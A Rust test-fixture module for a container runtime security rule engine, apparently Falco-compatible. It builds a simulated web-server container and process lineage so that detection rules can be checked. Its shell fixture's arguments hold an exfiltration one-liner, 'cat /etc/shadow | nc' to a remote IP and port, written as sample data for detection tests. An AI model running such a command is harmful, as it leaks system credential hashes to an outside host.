//! A container, a lineage and events to ask about.

use std::net::IpAddr;
use std::sync::Arc;
use taffrail_rules::expr::Expr;
use taffrail_rules::falco;
use taffrail_rules::judge::Judge;
use taffrail_rules::kind::{Kind, Kinds};
use taffrail_rules::load;
use taffrail_rules::matcher::{Matcher, RuleSet};
use taffrail_rules::rule::When;
use taffrail_rules::scene::{Descriptor, Scene, View};
use taffrail_trace::clock::{BootNs, UtcNs};
use taffrail_trace::container::{Container, HOST, Runtime};
use taffrail_trace::event::{
    Abi, Actor, Body, Credentials, Endpoint, Event, ExeFile, FileEvent, FileOp, FlowEvent, FlowOp, FlowPhase, Image,
    KernelEvent, KernelOp, Namespaces, Origin, PathSource, PrivilegeEvent, PrivilegeOp, Protocol, Stdio, SyscallEvent,
};
use taffrail_trace::ids::{ContainerKey, ExecId, ProcessId};

pub const SECOND: u64 = 1_000_000_000;

/// Everything that a scene can be asked for.
#[derive(Clone, Debug)]
pub struct Stage {
    pub event: Event,
    pub lineage: Vec<Image>,
    pub container: Container,
    pub socket: Option<(Endpoint, Endpoint)>,
}

impl Scene for Stage {
    fn event(&self) -> &Event {
        &self.event
    }

    fn image(&self, generation: usize) -> Option<&Image> {
        self.lineage.get(generation)
    }

    fn container(&self) -> &Container {
        &self.container
    }

    fn utc(&self, boot_ns: BootNs) -> UtcNs {
        1_773_478_800_000_000_000 + i64::try_from(boot_ns).expect("a time")
    }

    fn descriptor(&self, fd: i32) -> Option<Descriptor<'_>> {
        let (local, remote) = self.socket?;
        (fd == 3).then_some(Descriptor::Inet { protocol: Protocol::Tcp, local, remote: Some(remote), serves: false })
    }

    fn names_of(&self, addr: IpAddr, eye: &mut dyn FnMut(&str) -> bool) -> bool {
        addr == IpAddr::from([10, 0, 0, 1]) && (eye("other.example") || eye("kubernetes.default.svc."))
    }

    fn user_name(&self, uid: u32) -> Option<&str> {
        (uid == 33).then_some("www-data")
    }

    fn hostname(&self) -> Option<&str> {
        Some("quay")
    }
}

/// A web server's container: systemd > containerd-shim > nginx (init) > sh, and the actor is sh.
pub fn stage(body: Body) -> Stage {
    let lineage = vec![
        image("sh", "/bin/dash", &["sh", "-c", "cat /etc/shadow | nc 198.51.100.7 4444"], 40, "3f2a9c1b7d5e4f60"),
        image("nginx", "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], 30, "3f2a9c1b7d5e4f60"),
        image("containerd-shim", "/usr/bin/containerd-shim-runc-v2", &["/usr/bin/containerd-shim"], 20, HOST),
        image("systemd", "/usr/lib/systemd/systemd", &["/sbin/init"], 1, HOST),
    ];
    let own = &lineage[0];
    let actor = Actor { exec_id: own.exec_id, pid: own.pid, tid: own.pid, uid: own.uid, comm: own.comm.clone() };
    let labels = [("io.kubernetes.pod.namespace", "shop"), ("io.kubernetes.pod.name", "web-0"), ("team", "harbour")];
    Stage {
        event: Event { time_ns: 100 * SECOND, actor: Some(actor), body },
        container: Container {
            created_ns: Some(90 * SECOND),
            image: Some("registry.example:5000/shop/web:1.4".to_owned()),
            image_digest: Some("sha256:c0ffee00c0ffee00".to_owned()),
            labels: labels.map(|(name, value)| (name.to_owned(), value.to_owned())).into(),
            ..Container::new(
                ContainerKey(1),
                "3f2a9c1b7d5e4f60".to_owned(),
                "web".to_owned(),
                Runtime::Containerd,
                "/kubepods/x".to_owned(),
            )
        },
        lineage,
        socket: Some((end([10, 1, 2, 3], 40_000), end([198, 51, 100, 7], 4444))),
    }
}

pub fn end(addr: [u8; 4], port: u16) -> Endpoint {
    Endpoint { addr: IpAddr::from(addr), port }
}

pub fn image(comm: &str, exe: &str, args: &[&str], pid: u32, container_id: &str) -> Image {
    Image {
        exec_id: ExecId(u64::from(pid)),
        process_id: ProcessId(u64::from(pid)),
        parent_exec_id: None,
        origin: Origin::Exec,
        time_ns: 94 * SECOND,
        pid,
        ppid: pid - 1,
        uid: 33,
        gid: 33,
        credentials: Some(Credentials {
            uid: 33,
            gid: 33,
            euid: 33,
            egid: 33,
            effective: 1 << 21 | 1 << 16,
            permitted: 1 << 21,
            bounding: u64::MAX >> 23,
            ..Credentials::default()
        }),
        namespaces: Some(Namespaces { pid: 0xEFFF_FFFC, ipc: 7, ..Namespaces::default() }),
        login_uid: None,
        tty: Some("pts0".to_owned()),
        comm: comm.to_owned(),
        exe: exe.to_owned(),
        exe_file: Some(ExeFile {
            inode: 77,
            dev: 43,
            mode: 0o100_755,
            bytes: 9,
            ctime_ns: 1_773_478_800_000_000_000,
            deleted: false,
            memfd: false,
            upper: true,
        }),
        script: None,
        environment: vec!["PATH=/bin".to_owned(), "HTTP_PROXY=http://x".to_owned()],
        entered: None,
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
        args_cut: false,
        cwd: "/dev/shm".to_owned(),
        stdio: [
            Stdio::Inet { local: end([10, 1, 2, 3], 40_000), remote: end([198, 51, 100, 7], 4444) },
            Stdio::Pipe,
            Stdio::Unknown,
        ],
        container_id: container_id.to_owned(),
        container_name: "web".to_owned(),
    }
}

/// The shell was run.
pub fn exec() -> Stage {
    let image = stage(file(FileOp::Open, "/")).lineage[0].clone();
    stage(Body::Image(Box::new(image)))
}

pub fn file(op: FileOp, path: &str) -> Body {
    Body::File(Box::new(FileEvent {
        op,
        path: path.to_owned(),
        new_path: None,
        path_source: PathSource::Kernel,
        rewritten_from: None,
        new_rewritten_from: None,
        other_mounts: false,
        flags: 0,
        mode: None,
        owner: None,
        attribute: None,
        size_bytes: None,
        result: Some(0),
        fd: matches!(op, FileOp::Open | FileOp::Create).then_some(5),
        inode: Some(4711),
        dev: Some(8 << 20 | 1),
        abi: Abi::X86_64,
    }))
}

pub fn changed(body: Body, change: impl FnOnce(&mut FileEvent)) -> Body {
    match body {
        Body::File(mut file) => {
            change(&mut file);
            Body::File(file)
        }
        body => body,
    }
}

pub fn flow(protocol: Protocol, op: FlowOp, remote: Endpoint) -> Body {
    Body::Flow(Box::new(FlowEvent {
        flow_id: 1,
        phase: FlowPhase::Begin,
        protocol,
        op,
        start_ns: 1,
        local: end([10, 1, 2, 3], 40_000),
        remote: (op != FlowOp::Listen).then_some(remote),
        bytes_sent: 0,
        bytes_received: 0,
        result: 0,
    }))
}

pub fn kernel(op: KernelOp, syscall: &str, detail: &str) -> Body {
    Body::Kernel(Box::new(KernelEvent {
        op,
        syscall: syscall.to_owned(),
        detail: detail.to_owned(),
        path: Some("/dev/sda1".to_owned()),
        target: Some("/mnt".to_owned()),
        path_source: Some(PathSource::User),
        rewritten_from: None,
        target_rewritten_from: None,
        target_pid: Some(12),
        result: 0,
        abi: Abi::X86_64,
    }))
}

pub fn privilege(op: PrivilegeOp, syscall: &str, detail: &str) -> Body {
    Body::Privilege(Box::new(PrivilegeEvent {
        op,
        syscall: syscall.to_owned(),
        detail: detail.to_owned(),
        result: -1,
        credentials: Some(Credentials::default()),
        abi: Abi::X86_64,
    }))
}

pub fn syscall(nr: u32, args: [u64; 6], result: i64) -> Body {
    Body::Syscall(Box::new(SyscallEvent { nr, abi: Abi::X86_64, args, result, duration_ns: Some(7) }))
}

/// Whether a condition holds. Interpreter and matcher have to say the same.
pub fn holds(stage: &Stage, condition: &str) -> bool {
    let expr = falco::filter(condition).unwrap_or_else(|problems| panic!("{condition}: {problems:?}"));
    expr_holds(stage, &expr, condition)
}

pub fn expr_holds(stage: &Stage, expr: &Expr, condition: &str) -> bool {
    let slow = expr.holds(&View::of(stage));
    if Kinds::JUDGED.has(Kind::of(&stage.event)) {
        let mut matcher = matcher_of(expr);
        // Twice, for what is remembered of one event must not be of use to the next.
        for _ in 0..2 {
            let fast = matcher.matching(stage).len() == 1;
            assert_eq!(fast, slow, "matcher and interpreter: {condition}");
        }
    }
    slow
}

fn matcher_of(expr: &Expr) -> Matcher {
    let mut rules = load(&rule("r", "evt.num > 0", "")).rules;
    rules[0].when = When::Event(expr.clone());
    Matcher::new(Arc::new(RuleSet::new(rules)))
}

/// A rule's YAML.
pub fn rule(name: &str, condition: &str, more: &str) -> String {
    format!("- rule: {name}\n  desc: d\n  condition: {condition}\n  output: o\n  priority: NOTICE\n{more}")
}

pub fn load(text: &str) -> load::Loaded {
    load::load([("rules.yaml", text)])
}

/// Asks the rules of a text.
pub fn judge(text: &str) -> Judge {
    let loaded = load(text);
    assert_eq!(loaded.problems, [], "{text}");
    Judge::new(Arc::new(RuleSet::new(loaded.rules)))
}

/// What is said of a scene.
pub fn told(judge: &mut Judge, stage: &Stage) -> Vec<String> {
    judge.see(stage).map(|found| found.finding(stage).message).collect()
}

/// The same at another time.
pub fn at(time_ns: u64, mut stage: Stage) -> Stage {
    stage.event.time_ns = time_ns;
    stage
}
